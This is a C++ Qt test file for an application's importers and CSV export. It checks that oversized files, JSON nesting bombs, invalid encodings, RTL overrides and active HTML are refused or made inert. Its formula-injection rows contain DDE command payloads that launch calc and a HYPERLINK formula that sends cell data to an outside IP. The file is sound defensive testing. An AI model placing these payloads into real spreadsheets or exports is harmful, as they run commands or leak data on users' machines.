// Hostile inputs for every importer and loader, table-driven: binary garbage, invalid UTF-8
// declared as UTF-8, NUL bytes, a 50 MB single line, overlong lines, 10,000 columns, JSON
// nesting bombs, huge arrays, wrong types, right-to-left overrides, active HTML, and formula
// cells in exports. Each row expects a clear error (ErrorCode + message) or a documented safe
// outcome; nothing crashes, and big inputs are refused before they are read into memory.
//
// A new importer joins by adding an entry to importers() and rows to inputs_data().
#include "TestVault.h"

#include "export/TableExport.h"
#include "iso/IsoTypes.h"
#include "policies/PolicyText.h"
#include "requests/WorkingDayCalendar.h"
#include "storage/Statement.h"

#include <QFile>
#include <QHash>
#include <QTemporaryDir>
#include <QTest>

#include <functional>
#include <sys/resource.h>

using namespace cd;
using cd::test::TestVault;

namespace {

struct Outcome {
    Status status;
    QString output; // what the importer produced, for the safe-outcome checks
};

// Peak resident memory of this process in KiB (Linux reports ru_maxrss in KiB).
long peakRssKiB()
{
    rusage usage{};
    getrusage(RUSAGE_SELF, &usage);
    return usage.ru_maxrss;
}

int noError()
{
    return int(ErrorCode::None);
}

} // namespace

class TestHostileInputs : public QObject
{
    Q_OBJECT

private slots:
    void initTestCase();
    void inputs_data();
    void inputs();
    void exportNeutralisesFormulas_data();
    void exportNeutralisesFormulas();

private:
    QString input(const QString& name) const;
    QHash<QString, std::function<Outcome(const QString&)>> importers();
    void generate(const QString& name, const std::function<void(QFile&)>& write);

    QTemporaryDir m_generated;
    std::unique_ptr<TestVault> m_vault;
};

void TestHostileInputs::generate(const QString& name, const std::function<void(QFile&)>& write)
{
    QFile f(m_generated.filePath(name));
    QVERIFY(f.open(QIODevice::WriteOnly));
    write(f);
}

void TestHostileInputs::initTestCase()
{
    m_vault = std::make_unique<TestVault>();
    // Written in chunks so generating them does not itself raise this process's peak memory.
    generate(QStringLiteral("line-50mb.txt"), [](QFile& f) {
        const QByteArray chunk = QByteArray("个人信息").repeated(4096);
        for (qint64 written = 0; written < 50LL * 1024 * 1024; written += chunk.size()) {
            f.write(chunk);
        }
    });
    QFile::copy(m_generated.filePath(QStringLiteral("line-50mb.txt")), m_generated.filePath(QStringLiteral("line-50mb.json")));
    generate(QStringLiteral("line-3mb.txt"), [](QFile& f) {
        f.write(QByteArray("我们收集的个人信息 personal data ").repeated(3 * 1024 * 1024 / 40));
    });
    generate(QStringLiteral("columns-10000.txt"), [](QFile& f) {
        const QByteArray row = "|" + QByteArray("x|").repeated(10000) + "\n";
        f.write("标题\n" + row + row + row);
    });
    generate(QStringLiteral("nesting-bomb-array.json"), [](QFile& f) {
        f.write(QByteArray(100000, '[') + QByteArray(100000, ']'));
    });
    generate(QStringLiteral("nesting-bomb-object.json"), [](QFile& f) {
        f.write(QByteArray("{\"year\":2027,\"holidays\":") + QByteArray("{\"a\":").repeated(50000) + "1"
                + QByteArray(50000, '}') + "}");
    });
    generate(QStringLiteral("holidays-huge-array.json"), [](QFile& f) {
        f.write("{\"year\":2027,\"holidays\":[");
        for (int i = 0; i < 25000; ++i) {
            f.write(i ? ",{\"date\":\"2027-01-01\"}" : "{\"date\":\"2027-01-01\"}");
        }
        f.write("]}");
    });
    generate(QStringLiteral("holidays-whole-year.json"), [](QFile& f) {
        f.write("{\"year\":2027,\"holidays\":[{\"from\":\"2027-01-01\",\"to\":\"2027-12-31\",\"name\":\"x\"}]}");
    });
    generate(QStringLiteral("catalogue-huge-array.json"), [](QFile& f) {
        f.write("{\"version\":2,\"controls\":[");
        for (int i = 0; i < 40000; ++i) {
            f.write(QByteArray(i ? "," : "") + "{\"id\":\"5." + QByteArray::number(1 + i % 900)
                    + "\",\"theme\":\"organizational\",\"title_en\":\"Policies\",\"title_zh\":\"策略\"}");
        }
        f.write("]}");
    });
    generate(QStringLiteral("deep-nesting.html"), [](QFile& f) {
        f.write("<html><body>" + QByteArray("<table><tr><td>").repeated(3000) + "深处的文字"
                + QByteArray("</td></tr></table>").repeated(3000) + "</body></html>");
    });
    generate(QStringLiteral("divs-250.html"), [](QFile& f) {
        f.write("<html><body><p>" + QByteArray("<div>").repeated(250) + "深处的文字"
                + QByteArray("</div>").repeated(250) + "</body></html>");
    });
    generate(QStringLiteral("deep-divs.html"), [](QFile& f) {
        f.write("<html><body>" + QByteArray("<div><b><i>").repeated(20000) + "text"
                + QByteArray("</i></b></div>").repeated(20000) + "</body></html>");
    });
}

QString TestHostileInputs::input(const QString& name) const
{
    if (name.startsWith(QLatin1String("gen:"))) {
        return m_generated.filePath(name.mid(4));
    }
    return cd::test::testDataPath(QStringLiteral("hostile/") + name);
}

QHash<QString, std::function<Outcome(const QString&)>> TestHostileInputs::importers()
{
    QHash<QString, std::function<Outcome(const QString&)>> all;
    all.insert(QStringLiteral("policy"), [](const QString& path) {
        auto r = PolicyText::importFile(path);
        return r ? Outcome{{}, r.value()} : Outcome{r.status(), {}};
    });
    // The calendar import writes into the vault: a refused file must leave it as it was.
    all.insert(QStringLiteral("holiday"), [this](const QString& path) {
        const qint64 before = Statement::scalarInt(m_vault->db(), "SELECT count(*) FROM request_calendar_days");
        auto r = WorkingDayCalendar::importFile(m_vault->vault(), path);
        const qint64 after = Statement::scalarInt(m_vault->db(), "SELECT count(*) FROM request_calendar_days");
        if (!r && before != after) {
            return Outcome{Error{ErrorCode::Internal, QStringLiteral("a refused file changed the vault")}, {}};
        }
        return r ? Outcome{{}, QString::number(after - before)} : Outcome{r.status(), {}};
    });
    all.insert(QStringLiteral("catalogue"), [](const QString& path) {
        auto r = iso::Catalogue::fromFile(path);
        return r ? Outcome{{}, QString::number(r->controls.size())} : Outcome{r.status(), {}};
    });
    return all;
}

void TestHostileInputs::inputs_data()
{
    QTest::addColumn<QString>("importer");
    QTest::addColumn<QString>("file");
    QTest::addColumn<int>("expected");    // ErrorCode; None: imported, then `safe` must hold
    QTest::addColumn<QString>("safe");     // what a successful import must satisfy
    const int invalid = int(ErrorCode::InvalidInput);
    // The 50 MB rows come first: the peak-memory check compares against the peak before them.
    QTest::newRow("policy: 50 MB single line") << "policy" << "gen:line-50mb.txt" << invalid << "";
    QTest::newRow("holiday: 50 MB file") << "holiday" << "gen:line-50mb.json" << invalid << "";
    QTest::newRow("catalogue: 50 MB file") << "catalogue" << "gen:line-50mb.json" << invalid << "";
    QTest::newRow("policy: binary garbage") << "policy" << "binary-garbage.txt" << invalid << "";
    QTest::newRow("policy: invalid UTF-8 declared UTF-8") << "policy" << "invalid-utf8-declared.txt" << invalid << "";
    QTest::newRow("policy: NUL bytes") << "policy" << "nul-bytes.txt" << invalid << "";
    QTest::newRow("policy: 3 MB line") << "policy" << "gen:line-3mb.txt" << noError() << "bounded";
    QTest::newRow("policy: 10,000 columns") << "policy" << "gen:columns-10000.txt" << noError() << "table";
    QTest::newRow("policy: RTL override") << "policy" << "rtl-override.txt" << noError() << "bidi-kept";
    QTest::newRow("policy: script, remote image, file iframe") << "policy" << "script-and-remote-image.html"
                                                               << noError() << "inert";
    QTest::newRow("policy: 3,000 nested tables") << "policy" << "gen:deep-nesting.html" << int(ErrorCode::InvalidInput) << "";
    QTest::newRow("policy: 20,000 nested divs") << "policy" << "gen:deep-divs.html" << int(ErrorCode::InvalidInput) << "";
    QTest::newRow("policy: 250 nested divs") << "policy" << "gen:divs-250.html" << noError() << "deep-text";
    QTest::newRow("holiday: nesting bomb (arrays)") << "holiday" << "gen:nesting-bomb-array.json" << invalid << "";
    QTest::newRow("holiday: nesting bomb (objects)") << "holiday" << "gen:nesting-bomb-object.json" << invalid << "";
    QTest::newRow("holiday: 25,000 entries") << "holiday" << "gen:holidays-huge-array.json" << invalid << "";
    QTest::newRow("holiday: whole year as holiday") << "holiday" << "gen:holidays-whole-year.json" << invalid << "";
    QTest::newRow("holiday: year as text") << "holiday" << "holiday-wrong-types.json" << invalid << "";
    QTest::newRow("holiday: list of numbers") << "holiday" << "holiday-list-of-numbers.json" << invalid << "";
    QTest::newRow("holiday: holidays not a list") << "holiday" << "holiday-holidays-not-list.json" << invalid << "";
    QTest::newRow("holiday: top-level array") << "holiday" << "json-top-level-array.json" << invalid << "";
    QTest::newRow("catalogue: nesting bomb") << "catalogue" << "gen:nesting-bomb-array.json" << invalid << "";
    QTest::newRow("catalogue: 40,000 controls") << "catalogue" << "gen:catalogue-huge-array.json" << invalid << "";
    QTest::newRow("catalogue: wrong types") << "catalogue" << "catalogue-wrong-types.json" << invalid << "";
    QTest::newRow("catalogue: numeric ids") << "catalogue" << "catalogue-numeric-ids.json" << invalid << "";
    QTest::newRow("catalogue: top-level array") << "catalogue" << "json-top-level-array.json" << invalid << "";
}

void TestHostileInputs::inputs()
{
    QFETCH(QString, importer);
    QFETCH(QString, file);
    QFETCH(int, expected);
    QFETCH(QString, safe);
    const auto all = importers();
    QVERIFY2(all.contains(importer), qPrintable(importer));
    const QString path = input(file);
    QVERIFY2(QFile::exists(path), qPrintable(path));
    const qint64 size = QFile(path).size();
    const long peakBefore = peakRssKiB();
    const Outcome outcome = all.value(importer)(path);
    const long grownKiB = peakRssKiB() - peakBefore;

    QCOMPARE(int(outcome.status.code()), expected);
    if (expected != noError()) {
        QVERIFY(!outcome.status.message().isEmpty());
    }
    // Streamed or refused by size: never a copy of a huge file in memory.
    if (size > 20 * 1024 * 1024) {
        QVERIFY2(grownKiB < 16 * 1024, qPrintable(QStringLiteral("peak memory grew by %1 KiB").arg(grownKiB)));
    }
    if (safe == QLatin1String("bounded")) {
        QVERIFY(outcome.output.size() < 2 * size);
    } else if (safe == QLatin1String("table")) {
        QVERIFY(outcome.output.contains(QLatin1String("| --- |")));
    } else if (safe == QLatin1String("bidi-kept")) {
        // Kept, so the published text and its diff show exactly what was written; not counted.
        QVERIFY(outcome.output.contains(QChar(0x202E)));
        const QString plain = PolicyText::renderedPlainText(outcome.output);
        QCOMPARE(PolicyText::countCharacters(plain), PolicyText::countCharacters(QString(plain).remove(QChar(0x202E)).remove(QChar(0x202C))));
    } else if (safe == QLatin1String("deep-text")) {
        QVERIFY(outcome.output.contains(QStringLiteral("深处的文字")));
    } else if (safe == QLatin1String("inert")) {
        QVERIFY(outcome.output.contains(QStringLiteral("隐私政策")));
        QVERIFY(!outcome.output.contains(QLatin1String("<script")));
        QVERIFY(!outcome.output.contains(QLatin1String("alert(1)")));
        QVERIFY(!outcome.output.contains(QLatin1String("root:")));
    }
}

void TestHostileInputs::exportNeutralisesFormulas_data()
{
    QTest::addColumn<QString>("cell");
    QTest::newRow("=CMD") << QStringLiteral("=CMD|' /C calc'!A0");
    QTest::newRow("plus") << QStringLiteral("+1+2");
    QTest::newRow("minus") << QStringLiteral("-2+3+cmd|' /C calc'!A0");
    QTest::newRow("at") << QStringLiteral("@SUM(1+1)*cmd|' /C calc'!A0");
    QTest::newRow("tab") << QStringLiteral("\t=1+1");
    QTest::newRow("carriage return") << QStringLiteral("\r=1+1");
    QTest::newRow("full-width equals") << QStringLiteral("＝1+1");
    QTest::newRow("HYPERLINK") << QStringLiteral("=HYPERLINK(\"http://203.0.113.9/?\"&A1,\"click\")");
}

void TestHostileInputs::exportNeutralisesFormulas()
{
    QFETCH(QString, cell);
    QTemporaryDir dir;
    const QString path = dir.filePath(QStringLiteral("out.csv"));
    QVERIFY(TableExport::writeCsv(path, {QStringLiteral("name"), QStringLiteral("note")},
                                  {{QStringLiteral("Test Person"), cell}}));
    QFile f(path);
    QVERIFY(f.open(QIODevice::ReadOnly));
    const QString text = QString::fromUtf8(f.readAll());
    const QStringList lines = text.split(QStringLiteral("\r\n"));
    QVERIFY(lines.size() >= 2);
    // The cell is the second field: after the first comma, possibly quoted.
    QString field = lines.at(1).section(QLatin1Char(','), 1);
    if (field.startsWith(QLatin1Char('"'))) {
        field.remove(0, 1);
    }
    QVERIFY(!field.isEmpty());
    const QChar first = field.at(0);
    QVERIFY2(first != QLatin1Char('=') && first != QLatin1Char('+') && first != QLatin1Char('-')
                 && first != QLatin1Char('@') && first != QLatin1Char('\t') && first != QLatin1Char('\r')
                 && first != QChar(0xFF1D),
             qPrintable(field));
    // Nothing is lost: the original text follows the neutralising prefix.
    QVERIFY(text.contains(QString(cell).replace(QLatin1Char('"'), QStringLiteral("\"\""))));
}

QTEST_MAIN(TestHostileInputs)
#include "tst_hostileinputs.moc"
